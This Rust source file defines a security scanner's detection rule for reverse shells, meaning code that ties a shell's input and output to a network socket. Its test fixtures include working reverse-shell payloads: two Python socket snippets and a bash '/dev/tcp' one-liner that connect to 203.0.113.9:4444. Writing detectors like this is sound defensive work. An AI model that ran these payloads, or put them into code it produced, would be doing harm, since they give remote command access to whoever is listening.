//! A socket becomes the streams of a shell.

use crate::code::fact::Hostile;
use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
use crate::text::unit::{ANYWHERE, Unit};

pub(super) const RULE: Rule = Rule {
    id: "CODE_SOCKET_SHELL",
    category: Category::NetworkExfil,
    severity: Severity::Critical,
    title: "a shell for somebody elsewhere",
    why: "The streams of a shell are tied to a connection: whoever is at the other end types commands here.",
    fix: "remove it",
    places: ANYWHERE,
    anchors: &["dup2", "/dev/tcp/", "/dev/udp/", "stdin="],
    check: Check::Unit(check),
    hits: &[
        file(
            "x.py",
            "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
        ),
        file(
            "x.py",
            "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nsubprocess.Popen(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno())\n",
        ),
        text("```bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```"),
    ],
    misses: &[
        file("x.py", "import os\nos.dup2(log.fileno(), 1)\n"),
        file("x.py", "import subprocess\nsubprocess.run(['sort'], stdin=src.fileno())\n"),
    ],
};

fn check(unit: &Unit<'_>) -> Vec<Hit> {
    super::hostile(unit, Hostile::RemoteShell)
}
